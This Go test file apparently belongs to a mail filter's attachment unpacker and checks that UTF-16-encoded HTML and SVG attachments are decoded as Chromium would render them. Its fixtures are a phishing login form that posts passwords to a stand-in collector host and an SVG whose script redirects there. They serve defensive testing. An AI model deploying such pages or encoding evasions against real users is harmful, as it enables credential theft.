package unpack

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/kensa-milter/kensa/internal/chromium"
	"github.com/kensa-milter/kensa/internal/cryptkeys"
)

const utf16Login = `<html><body><h1>Mailbox</h1><form method="post" action="https://collect.example.net/p"><input name="login"><input type="password" name="pw"><button>Next</button></form></body></html>`

func TestUTF16Page(t *testing.T) {
	le := append([]byte("\xff\xfe"), cryptkeys.UTF16LE(utf16Login)...)
	be := append([]byte("\xfe\xff"), cryptkeys.UTF16BE(utf16Login)...)
	for _, c := range []struct {
		name, file, declared string
		data                 []byte
		member               string // "" when the part stays as it is
	}{
		{"little-endian page", "Mailbox.html", "", le, "2/Mailbox.html/Mailbox.html"},
		{"big-endian page", "Mailbox.htm", "", be, "2/Mailbox.htm/Mailbox.htm"},
		{"SVG", "Invoice.svg", "", append([]byte("\xff\xfe"), cryptkeys.UTF16LE(`<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://collect.example.net/"</script></svg>`)...), "2/Invoice.svg/Invoice.svg"},
		{"unnamed, declared SVG", "", "image/svg+xml", le, "2/utf16-page/image.svg"},
		{"odd length: the lone byte is no character", "Mailbox.html", "", append(le, 'x'), "2/Mailbox.html/Mailbox.html"},
		// Chromium shows a page without the mark as its bytes, and a UTF-16
		// web archive as an empty page; text is no page.
		{"no byte order mark", "Mailbox.html", "", cryptkeys.UTF16LE(utf16Login), ""},
		{"web archive", "Mailbox.mht", "", le, ""},
		{"text file", "notes.txt", "", le, ""},
		{"unnamed, octet-stream", "", "", le, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := mail("x", "hi", c.file, c.data)
			if c.declared != "" {
				m.Parts[1].DeclaredType = c.declared
			}
			expand(t, m, Options{})
			if c.member == "" {
				if len(m.Parts) != 2 {
					t.Fatalf("opened:\n%s", dump(m))
				}
				return
			}
			p := mustPart(t, m, c.member)
			want := utf16Login
			if c.file == "Invoice.svg" {
				want = `<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://collect.example.net/"</script></svg>`
			}
			if string(p.Content) != want {
				t.Errorf("member %q reads %q, want %q", c.member, p.Content, want)
			}
		})
	}
}

// TestUTF16PageInChromium: Chromium decodes a page after its UTF-16 byte
// order mark, either way round, and shows its form; without the mark it
// shows the bytes as text, and no form.
func TestUTF16PageInChromium(t *testing.T) {
	browser := chromium.Start(t, 5*time.Minute, chromedp.Flag("host-resolver-rules", "MAP * ~NOTFOUND"))
	dir := t.TempDir()
	for _, c := range []struct {
		name  string
		data  []byte
		shown bool
	}{
		{"le.html", append([]byte("\xff\xfe"), cryptkeys.UTF16LE(utf16Login)...), true},
		{"be.html", append([]byte("\xfe\xff"), cryptkeys.UTF16BE(utf16Login)...), true},
		{"nomark.html", cryptkeys.UTF16LE(utf16Login), false},
	} {
		path := filepath.Join(dir, c.name)
		if err := os.WriteFile(path, c.data, 0o644); err != nil {
			t.Fatal(err)
		}
		tab, cancel := chromedp.NewContext(browser)
		var action string
		err := chromedp.Run(tab, chromedp.Navigate("file://"+path),
			chromedp.Evaluate(`(document.querySelector("input[type=password]") && document.forms[0].action) || ""`, &action))
		cancel()
		if err != nil {
			t.Fatal(err)
		}
		if shown := action == "https://collect.example.net/p"; shown != c.shown {
			t.Errorf("%s: Chromium shows the form: %v (action %q), the reader assumes %v", c.name, shown, action, c.shown)
		}
		m := mail("x", "hi", c.name, c.data)
		expand(t, m, Options{})
		if opened := len(m.Parts) > 2; opened != c.shown {
			t.Errorf("%s: opened %v, Chromium shows it as a page: %v\n%s", c.name, opened, c.shown, dump(m))
		}
	}
}
